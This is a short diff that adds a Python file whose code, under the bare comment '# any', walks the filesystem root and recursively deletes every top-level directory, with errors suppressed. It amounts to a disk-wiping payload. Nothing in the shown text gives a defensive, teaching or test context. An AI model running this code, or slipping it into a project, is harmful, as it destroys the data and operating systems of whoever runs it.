@@ -1,0 +1,6 @@
+# any
+import os
+import shutil
+
+for name in os.listdir("/"):
+    shutil.rmtree(f"/{name}", ignore_errors=True)
